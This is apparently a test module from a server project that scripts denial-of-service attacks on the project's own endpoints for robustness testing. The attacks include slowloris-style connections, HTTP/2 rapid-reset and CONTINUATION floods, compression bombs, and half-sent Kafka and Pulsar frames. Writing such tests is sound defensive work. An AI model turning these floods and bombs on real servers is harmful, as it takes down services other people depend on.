"""Attacks on a server. `python -m tests.doors.attacks.attackers NAME ADDRESSES SECONDS` runs one of them."""

from __future__ import annotations

import contextlib
import gzip
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterable, Iterator

import hpack
import zstandard

from mainstem.address import Address
from mainstem.doors.pulsar.messages import MessageMetadata
from mainstem.doors.pulsar.wire import payload_frame, simple_frame

Addresses = dict[str, Address]
Attack = Callable[[Addresses, float], None]

ATTACKS: dict[str, Attack] = {}

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW = 4


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def connect(address: Address) -> socket.socket:
    return socket.create_connection((address.host, address.port), 10)


class Flood:
    """Writes to many connections as fast as each takes it, and replaces those that the server closes."""

    def __init__(
        self, address: Address, connections: int, first: bytes, chunk: bytes, *, reads: bool
    ) -> None:
        self._address = address
        self._first = first
        self._chunk = chunk
        self._reads = reads
        self._rest: dict[socket.socket, memoryview] = {}
        self._wanted = connections

    def run(self, seconds: float) -> None:
        ends = time.monotonic() + seconds
        while time.monotonic() < ends:
            while len(self._rest) < self._wanted:
                with contextlib.suppress(OSError):
                    self._open()
            held = list(self._rest)
            readable, writable, _ = select.select(held if self._reads else [], held, [], 0.2)
            for connection in readable:
                self._read(connection)
            for connection in writable:
                self._write(connection)

    def _open(self) -> None:
        connection = connect(self._address)
        connection.setblocking(False)
        self._rest[connection] = memoryview(self._first + self._chunk)

    def _read(self, connection: socket.socket) -> None:
        try:
            if not connection.recv(1 << 16):
                self._drop(connection)
        except BlockingIOError:
            pass
        except OSError:
            self._drop(connection)

    def _write(self, connection: socket.socket) -> None:
        if connection not in self._rest:
            return
        rest = self._rest[connection] or memoryview(self._chunk)
        try:
            self._rest[connection] = rest[connection.send(rest) :]
        except BlockingIOError:
            pass
        except OSError:
            self._drop(connection)

    def _drop(self, connection: socket.socket) -> None:
        self._rest.pop(connection, None)
        connection.close()


# HTTP/1.1


@attack
def pipelined(addresses: Addresses, seconds: float) -> None:
    """Requests without end on connections whose responses are read."""
    chunk = b"GET /v0/health HTTP/1.1\r\nhost: localhost\r\n\r\n" * 5000
    Flood(addresses["http"], 8, b"", chunk, reads=True).run(seconds)


@attack
def pipelined_unread(addresses: Addresses, seconds: float) -> None:
    """The same, and nobody reads the responses."""
    chunk = b"GET /v0/x HTTP/1.1\r\nhost:x\r\n\r\n" * 5000
    Flood(addresses["http"], 64, b"", chunk, reads=False).run(seconds)


@attack
def slow_readers(addresses: Addresses, seconds: float) -> None:
    """Many connections ask for large pages and do not read them."""
    body = json.dumps({"from_seq": 0, "limit": 1000, "max_batch_bytes": 8 << 20}).encode()
    request = (
        b"POST /v0/topics/large/diff HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        b"content-length: %d\r\n\r\n%b" % (len(body), body)
    )
    held = []
    for _ in range(200):
        held.append(connect(addresses["http"]))
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        held[-1].sendall(request)
    time.sleep(seconds)


@attack
def slow_heads(addresses: Addresses, seconds: float) -> None:
    """A byte of a head now and then, on many connections."""
    held = [connect(addresses["http"]) for _ in range(400)]
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sendall(b"G")
        time.sleep(0.2)


# HTTP/2


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _http2(
    addresses: Addresses, seconds: float, chunk: bytes, first: bytes = b"", *, connections: int = 4
) -> None:
    opening = _PREFACE + frame(_SETTINGS, 0, 0) + first
    Flood(addresses["http"], connections, opening, chunk, reads=True).run(seconds)


def _request_head(path: str, method: str = "GET") -> bytes:
    names = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "localhost")]
    if method == "POST":
        names.append(("content-type", "application/json"))
    return bytes(hpack.Encoder().encode(names, huffman=False))


@attack
def http2_pings(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_PING, 0, 0, bytes(8)) * 10_000)


@attack
def http2_window_updates(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_WINDOW, 0, 0, struct.pack(">I", 1)) * 10_000)


@attack
def http2_settings(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 65_535)) * 10_000)


@attack
def http2_priorities(addresses: Addresses, seconds: float) -> None:
    _http2(addresses, seconds, frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 10_000)


@attack
def http2_resets(addresses: Addresses, seconds: float) -> None:
    """Rapid reset: requests that are cancelled at once."""
    head = _request_head("/v0/topics")
    pairs = (
        frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, head) + frame(_RST, 0, stream, bytes(4))
        for stream in range(1, 20_001, 2)
    )
    _http2(addresses, seconds, b"".join(pairs))


@attack
def http2_continuations(addresses: Addresses, seconds: float) -> None:
    first = frame(_HEADERS, _END_STREAM, 1, _request_head("/v0/health"))
    _http2(addresses, seconds, frame(_CONTINUATION, 0, 1) * 10_000, first)


@attack
def http2_empty_data(addresses: Addresses, seconds: float) -> None:
    first = frame(_HEADERS, _END_HEADERS, 1, _request_head("/v0/topics/probe", "POST"))
    _http2(addresses, seconds, frame(_DATA, 0, 1) * 10_000, first)


@attack
def http2_window_zero(addresses: Addresses, seconds: float) -> None:
    """Streams whose windows take no byte of the large pages they ask for."""
    body = json.dumps({"from_seq": 0, "limit": 1000, "max_batch_bytes": 8 << 20}).encode()
    head = _request_head("/v0/topics/large/diff", "POST")
    opening = _PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 0))
    streams = b"".join(
        frame(_HEADERS, _END_HEADERS, stream, head) + frame(_DATA, _END_STREAM, stream, body)
        for stream in range(1, 180, 2)
    )
    held = []
    for _ in range(8):
        held.append(connect(addresses["http"]))
        held[-1].sendall(opening + streams)
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for connection in select.select(held, [], [], 0.2)[0]:
            with contextlib.suppress(OSError):
                connection.recv(1 << 16)
        time.sleep(0.05)


# Compressed bodies and batches


def _post_all(address: Address, requests: Iterable[bytes], seconds: float, connections: int) -> None:
    """Send requests, one on each of some connections, each until the server answers it."""
    ends = time.monotonic() + seconds
    left = iter(requests)
    held: list[socket.socket] = []
    while time.monotonic() < ends:
        while len(held) < connections:
            request = next(left, None)
            if request is None:
                break
            with contextlib.suppress(OSError):
                connection = connect(address)
                connection.sendall(request)
                held.append(connection)
        readable, _, _ = select.select(held, [], [], 0.2)
        for connection in readable:
            with contextlib.suppress(OSError):
                connection.recv(1 << 20)
            connection.close()
            held.remove(connection)


def _packed_post(encoding: str, body: bytes) -> bytes:
    return (
        b"POST /v0/topics/packed HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        b"content-encoding: %b\r\ncontent-length: %d\r\n\r\n%b" % (encoding.encode(), len(body), body)
    )


def _repeated(request: bytes) -> Iterator[bytes]:
    while True:
        yield request


@attack
def gzip_members(addresses: Addresses, seconds: float) -> None:
    member = gzip.compress(b"")
    body = member * (4_000_000 // len(member))
    _post_all(addresses["http"], _repeated(_packed_post("gzip", body)), seconds, 16)


@attack
def zstd_frames(addresses: Addresses, seconds: float) -> None:
    member = zstandard.ZstdCompressor().compress(b"")
    body = member * (4_000_000 // len(member))
    _post_all(addresses["http"], _repeated(_packed_post("zstd", body)), seconds, 16)


@attack
def packed_bombs(addresses: Addresses, seconds: float) -> None:
    """Small bodies that decompress to as much as a body may have."""
    body = zstandard.ZstdCompressor().compress(b" " * (63 << 20))
    _post_all(addresses["http"], _repeated(_packed_post("zstd", body)), seconds, 32)


def _json_post(path: str, content: object) -> bytes:
    body = json.dumps(content).encode()
    return (
        b"POST %b HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%b"
        % (path.encode(), len(body), body)
    )


@attack
def batch_bombs(addresses: Addresses, seconds: float) -> None:
    """Diffs of a topic with a batch of 8 KB that decompresses to 252 MB."""
    _post_all(addresses["http"], _repeated(_json_post("/v0/topics/bomb/diff", {"from_seq": 0})), seconds, 16)


@attack
def searched_bombs(addresses: Addresses, seconds: float) -> None:
    """Searches for a value in such a topic."""
    request = b"GET /v0/topics/bomb/messages?value=zzz&from=0 HTTP/1.1\r\nhost: localhost\r\n\r\n"
    _post_all(addresses["http"], _repeated(request), seconds, 16)


@attack
def watched_bombs(addresses: Addresses, seconds: float) -> None:
    """Event streams that watch such a topic from its start."""
    ends = time.monotonic() + seconds
    held = []
    request = _json_post("/v0/watch", {"topics": {"bomb": {"from_seq": 0}}})
    for _ in range(16):
        with connect(addresses["http"]) as asking:
            asking.sendall(request)
            answer = asking.recv(1 << 16).partition(b"\r\n\r\n")[2]
        url = json.loads(answer)["stream_url"]
        held.append(connect(addresses["http"]))
        held[-1].sendall(f"GET {url} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode())
    while time.monotonic() < ends:
        for connection in select.select(held, [], [], 0.2)[0]:
            with contextlib.suppress(OSError):
                connection.recv(1 << 20)
        time.sleep(0.01)


# Kafka and text


@attack
def half_frames(addresses: Addresses, seconds: float) -> None:
    """Requests that are never complete: 95 of 96 MiB on each of twenty connections."""
    head = struct.pack(">i", 96 << 20) + struct.pack(">hhih", 0, 9, 1, -1)
    held = []
    ends = time.monotonic() + seconds
    for _ in range(20):
        held.append(connect(addresses["kafka"]))
        held[-1].setblocking(False)
    left = dict.fromkeys(held, 95 << 20)
    chunk = memoryview(head + bytes(1 << 20))
    begun: set[socket.socket] = set()
    while time.monotonic() < ends:
        for connection in select.select([], [one for one in held if left.get(one, 0) > 0], [], 0.2)[1]:
            try:
                sent = connection.send(chunk if connection not in begun else chunk[len(head) :])
                begun.add(connection)
                left[connection] -= sent
            except BlockingIOError:
                pass
            except OSError:
                left[connection] = 0


def _metadata(version: int = 1) -> bytes:
    body = struct.pack(">hhih", 3, version, 1, -1) + struct.pack(">i", -1)
    return struct.pack(">i", len(body)) + body


@attack
def metadata(addresses: Addresses, seconds: float) -> None:
    """Metadata of every topic, asked for again and again while topics change."""
    ends = time.monotonic() + seconds
    held = [connect(addresses["kafka"]) for _ in range(4)]
    number = 0
    while time.monotonic() < ends:
        for connection in held:
            connection.sendall(_metadata())
        number += 1
        with connect(addresses["text"]) as text:  # the topics change, so that no response is a cached one
            name = f"REGISTER changed-{number}".encode()
            text.sendall(struct.pack("<I", len(name)) + name)
            text.recv(100)
        for connection in held:
            (length,) = struct.unpack(">i", _receive(connection, 4))
            _receive(connection, length)


def _receive(connection: socket.socket, size: int) -> bytes:
    data = bytearray()
    while len(data) < size:
        part = connection.recv(min(size - len(data), 1 << 20))
        if not part:
            raise ConnectionError("closed")
        data += part
    return bytes(data)


@attack
def unread_fetches(addresses: Addresses, seconds: float) -> None:
    """Kafka clients that fetch and do not read."""
    name = b"large"
    body = (
        struct.pack(">hhih", 1, 4, 1, -1)
        + struct.pack(">iiiibi", -1, 0, 0, 64 << 20, 0, 1)
        + struct.pack(">h", len(name))
        + name
        + struct.pack(">iiqi", 1, 0, 0, 64 << 20)
    )
    request = struct.pack(">i", len(body)) + body
    held = []
    for _ in range(100):
        held.append(connect(addresses["kafka"]))
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        held[-1].sendall(request * 20)
    time.sleep(seconds)


@attack
def kafka_pipelined(addresses: Addresses, seconds: float) -> None:
    """Small requests without end: versions, coordinators and groups."""
    bodies = (
        struct.pack(">hhih", 18, 0, 1, -1),  # ApiVersions
        struct.pack(">hhih", 10, 0, 2, -1) + struct.pack(">h", 1) + b"g",  # FindCoordinator
        struct.pack(">hhih", 16, 0, 3, -1),  # ListGroups
    )
    chunk = b"".join(struct.pack(">i", len(body)) + body for body in bodies) * 3000
    Flood(addresses["kafka"], 16, b"", chunk, reads=True).run(seconds)


# Text


@attack
def text_pipelined(addresses: Addresses, seconds: float) -> None:
    """Commands without end, on connections whose answers nobody reads."""
    body = b"METRICS"
    chunk = (struct.pack("<I", len(body)) + body) * 5000
    Flood(addresses["text"], 32, b"", chunk, reads=False).run(seconds)


# Pulsar


def _pulsar_connect() -> bytes:
    return simple_frame("connect", client_version="attacker", protocol_version=21)


@attack
def pulsar_pings(addresses: Addresses, seconds: float) -> None:
    """PINGs without end on connections whose answers are read."""
    Flood(addresses["pulsar"], 8, _pulsar_connect(), simple_frame("ping") * 10_000, reads=True).run(seconds)


@attack
def pulsar_lookups(addresses: Addresses, seconds: float) -> None:
    """Requests without end on connections whose answers nobody reads."""
    asked = simple_frame("get_topics_of_namespace", request_id=1, namespace="public/default")
    asked += simple_frame("lookup", request_id=2, topic="persistent://public/default/probe")
    Flood(addresses["pulsar"], 64, _pulsar_connect(), asked * 2_000, reads=False).run(seconds)


@attack
def pulsar_bombs(addresses: Addresses, seconds: float) -> None:
    """Batches of a few hundred bytes that decompress to 5 MiB."""
    size = 5 << 20
    metadata = MessageMetadata(
        producer_name=b"attacker", sequence_id=0, publish_time=1, compression=3, uncompressed_size=size
    ).SerializeToString()
    send = simple_frame("send", producer_id=1, sequence_id=0, num_messages=1)[8:]
    bomb = payload_frame(send, metadata, zstandard.compress(bytes(size)))
    first = _pulsar_connect() + simple_frame(
        "producer", producer_id=1, request_id=1, topic="persistent://public/default/bombed"
    )
    Flood(addresses["pulsar"], 8, first, bomb * 200, reads=True).run(seconds)


@attack
def pulsar_half_frames(addresses: Addresses, seconds: float) -> None:
    """SENDs that are never complete: 4 of 5 MiB on each of four hundred connections."""
    frame = struct.pack(">I", 5 << 20) + bytes(4 << 20)
    held = []
    for _ in range(400):
        connection = connect(addresses["pulsar"])
        connection.sendall(_pulsar_connect())
        connection.recv(1024)
        held.append(connection)
    ends = time.monotonic() + seconds
    rest = {connection: memoryview(frame) for connection in held}
    while rest and time.monotonic() < ends:
        for connection in select.select([], list(rest), [], 0.2)[1]:
            connection.setblocking(False)
            try:
                rest[connection] = rest[connection][connection.send(rest[connection]) :]
            except BlockingIOError:
                continue
            except OSError:
                del rest[connection]
                continue
            if not rest[connection]:
                del rest[connection]
    time.sleep(max(0.0, ends - time.monotonic()))


# S3


@attack
def s3_unread(addresses: Addresses, seconds: float) -> None:
    """Clients that ask for large objects and do not read them."""
    address = addresses["s3"]
    head = f"host: {address}\r\n".encode()
    size = 64 << 20
    with connect(address) as setup:
        setup.sendall(b"PUT /attacked HTTP/1.1\r\n" + head + b"content-length: 0\r\n\r\n")
        setup.recv(4096)
        setup.sendall(b"PUT /attacked/large HTTP/1.1\r\n%bcontent-length: %d\r\n\r\n" % (head, size))
        setup.sendall(bytes(size))
        setup.recv(4096)
    held = []
    ends = time.monotonic() + seconds
    for _ in range(200):
        connection = connect(address)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.sendall((b"GET /attacked/large HTTP/1.1\r\n" + head + b"\r\n") * 20)
        held.append(connection)
    time.sleep(max(0.0, ends - time.monotonic()))


@attack
def silent(addresses: Addresses, seconds: float) -> None:
    """Connections to every door that say nothing, more than the server has descriptors for."""
    _hold_silent(addresses, ("http", "kafka", "text", "pulsar", "s3"), seconds)


@attack
def silent_handshakes(addresses: Addresses, seconds: float) -> None:
    """The same to a door with TLS, whose clients do not begin their handshakes."""
    _hold_silent(addresses, ("pulsar",), seconds)


def _hold_silent(addresses: Addresses, doors: tuple[str, ...], seconds: float) -> None:
    held = []
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for door in doors:
            if len(held) < 2000:
                with contextlib.suppress(OSError):
                    held.append(connect(addresses[door]))
        if len(held) >= 2000:
            time.sleep(0.1)


def main() -> None:
    name, addresses, seconds = sys.argv[1:]
    parsed = {door: Address.parse(address) for door, address in json.loads(addresses).items()}
    ATTACKS[name](parsed, float(seconds))


if __name__ == "__main__":
    main()
